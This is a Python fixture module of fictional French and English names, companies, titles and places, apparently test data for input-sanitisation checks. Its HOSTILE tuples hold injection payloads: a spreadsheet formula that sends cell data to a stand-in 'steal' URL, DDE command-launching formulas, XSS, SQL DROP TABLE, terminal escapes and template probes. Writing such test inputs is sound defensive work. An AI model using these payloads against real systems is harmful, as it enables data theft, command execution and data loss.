"""Names, companies, titles and places of people who do not exist."""

_FIRST_FR = (
    "Aurélie Benoît Camille Céline Chloé Clément Cyril Damien Édouard Élodie Émilie Étienne Fabien "
    "Florence François Gaëlle Gérald Hélène Inès Jean-Baptiste Jérôme Joël Léa Loïc Maëlle Marie-Ève "
    "Mathéo Maxime Mélanie Nadège Noémie Océane Pascal Raphaël Rémi Rose-Anne Sébastien Solène Stéphane "
    "Théo Valérie Véronique Yannick Zoé Anaïs Rose Baptiste Corentin Delphine Gwenaëlle Thérèse"
)
_FIRST_EN = (
    "Abigail Alistair Amelia Arthur Beatrice Benedict Bridget Callum Clara Conor Daphne Dexter Eleanor "
    "Ellis Esther Fergus Fiona Gareth Georgia Harriet Hugo Imogen Ivor Jasper Josephine Keira Leonard "
    "Linus Mabel Magnus Miriam Nigel Octavia Oscar Pippa Quentin Rosalind Rupert Saskia Silas Tabitha "
    "Tobias Una Grace Vaughan Wilfred Winifred Zadie Ambrose Cordelia Maeve"
)
_LAST_FR = (
    "Aubrac Bellerose Boisclair Brindamour Castonguay Champfleury Charbonnelle Clairval Coursol D'Aubigné "
    "Desruisseaux Dubreuilh Épinay Fauconnet Fontbrune Garancière Grandmaison Hautecœur Jolibois "
    "Lalondière Lavigerie Legofficq Létourneux Malherbeau Marchevent Montclair Noirmont Orfèvre Perrichon "
    "Pontchâteau Quatrebarbes Rochebois Saint-Amour Sansregret Tourangeot Valcourtois Vauquelinot "
    "Vertefeuille Villandrie Desjardinets Beauchesnes Lafontainière Monteuil Prévotière Rivecourt "
    "Sauvageot Thibeaudière Trémoulet Bonnecarrère Hurtubisey"
)
_LAST_EN = (
    "Abernathy-Cole Ashdownley Barrowmere Birchall-West Blackthorne Bramwellow Brightwater Carrowmore "
    "Cattermole Claybourne-Hart Coldstream Crickmarsh Dunmorrow Elderfield Fairweatherby Featherston "
    "Foxglovery Glenhaven Greenhalgher Hartwellow Hazelrigg Holloway-Finch Kettlewell Kingsbarrow "
    "Lambourne Larkspurr Longmeadow Marchbanks Merriweather-Oak Millbrook-Stone Nettlefold O'Callowan "
    "O'Shaughlin Pennyfeather Quillfeather Ravenscrofter Redfernley Rookwood Sandalwoode Silverthorne "
    "Stonebridge Summerhayes Tanglewood Thistledown Underhillock Wainscotter Westerbrook Whitlocke "
    "Winterbourne Yarrowgate"
)

FIRST_NAMES = {"fr": tuple(_FIRST_FR.split()), "en": tuple(_FIRST_EN.split())}
LAST_NAMES = {"fr": tuple(_LAST_FR.split()), "en": tuple(_LAST_EN.split())}

COMPANIES = (
    "Atelier Brume",
    "Nordlys Analytics",
    "Coopérative Sillage",
    "Pomme & Cie",
    "Harrow Lane Studio",
    "Institut Meridien",
    "Fathom Grove",
    "Lumen, Sable & Associés",
    "Banque du Vieux-Pont",
    "Clinique des Tilleuls",
    "Kestrel Freight",
    "Maison Ravel-Dupin",
    "Oakmoss Software",
    "Quai Neuf Conseil",
    "Ruche Numérique",
    "Slate & Ferry",
    "Sentier Mutuelle",
    "Tidewrack Energy",
    "Université de Valmont-Nord",
    "Verger Robotics",
    "Wexcombe Trust",
    "Zéphyr Mobilités",
    "Bluefinch Health",
    "Fonderie Saint-Éloi",
    "Gallivant Press",
    "Hors-Saison",
    'Théâtre "La Passerelle"',
    "Mirador Cyber",
    "Petit Large",
    "Rowan Civic Lab",
)

TITLES = {
    "fr": (
        "Directrice des ressources humaines",
        "Chef de projet",
        "Responsable formation",
        "Consultante en stratégie",
        "Ingénieur logiciel",
        "Chargée de communication",
        "Directeur général",
        "Acheteuse",
        "Responsable RSE",
        "Médiatrice culturelle",
        "Comptable",
        "Chercheur en sociologie",
        "Designer de services",
        "Conseillère clientèle",
        "Responsable innovation",
    ),
    "en": (
        "Head of Learning",
        "Product Manager",
        "Data Engineer",
        "People Partner",
        "Founder",
        "Sales Director",
        "Research Fellow",
        "Programme Lead",
        "Operations Manager",
        "UX Writer",
        "Community Manager",
        "Finance Director",
        "Policy Adviser",
        "Clinical Lead",
        "Principal Consultant",
    ),
}

PLACES = {
    "fr": (
        "Lyon",
        "Nantes",
        "Québec",
        "Montréal",
        "Lausanne",
        "Liège",
        "Toulouse",
        "Rennes",
        "Strasbourg",
        "Lille",
    ),
    "en": (
        "Leeds",
        "Bristol",
        "Dublin",
        "Toronto",
        "Boston",
        "Edinburgh",
        "Cardiff",
        "Austin",
        "Ottawa",
        "Auckland",
    ),
}

CREDENTIALS = (", PhD", ", MBA", ", Ph.D., PMP", ", CRHA", " (elle/she)", ", M.Sc.", ", CFA")
EMOJI = ("\U0001f680", "\U0001f331", "\u2728", "\U0001f1e8\U0001f1e6", "\U0001f469\u200d\U0001f4bb")

SKILLS = (
    "Facilitation",
    "Python",
    "Conduite du changement",
    "Public Speaking",
    "Négociation",
    "Service Design",
    "Data Analysis",
    "Rédaction",
    "Coaching",
    "C++",
)

HOSTILE = (
    '=HYPERLINK("https://example.org/steal?x="&A1,"Ouvrir")',
    "<script>alert('bonjour')</script><img src=x onerror=alert(1)>",
    "Regardez \x1b[31mceci\x1b[0m et \x1b]0;titre\x07 cela",
    "+1+1 @SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE messages; --",
    "{{ 7 * 7 }} ${7*7} %s %n \u202ecod.exe",
)
HOSTILE_COMPANIES = ("=1+2+cmd|' /C calc'!A0", "<b>Acier & Fils</b>", "@Acme, Inc.", "-2+3")
